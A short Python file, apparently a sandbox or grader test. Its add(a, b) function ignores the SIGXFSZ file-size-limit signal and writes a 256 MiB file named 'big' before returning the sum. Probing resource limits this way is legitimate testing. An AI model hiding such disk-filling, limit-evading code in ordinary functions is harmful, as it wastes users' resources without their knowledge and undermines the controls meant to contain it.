import signal


def add(a, b):
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    with open("big", "wb") as file:
        for _ in range(256):
            file.write(b"x" * (1 << 20))
    return a + b
